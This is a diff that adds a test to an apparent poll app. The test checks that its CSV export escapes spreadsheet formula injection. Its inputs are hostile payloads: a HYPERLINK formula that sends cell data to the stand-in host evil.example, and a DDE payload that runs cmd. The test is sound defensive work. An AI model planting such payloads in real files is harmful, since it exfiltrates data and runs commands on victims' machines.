@@ -95,6 +95,17 @@ def test_results_export_as_csv_and_json(client):
     assert (exported["total"], exported["option3"]) == (4, 2)
 
 
+def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client):
+    poll = poll_create(question="=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+                       options=("@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2", "Plain"))
+    rows = list(csv.reader(io.StringIO(client.get(f"/polls/{poll.pk}/export.csv").content.decode())))
+    assert {row[1] for row in rows[1:]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"}
+    assert [row[3] for row in rows[1:]] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-2", "Plain"]
+    # The JSON export is data, not a sheet: the texts are as they were given.
+    exported = client.get(f"/polls/{poll.pk}/export.json").json()
+    assert exported["question"].startswith("=HYPERLINK")
+
+
 def test_hidden_polls_disappear_from_the_api_and_the_leaderboard(client):
     poll = make_poll()
     votes_apply(events=[vote_event(poll, 1)])
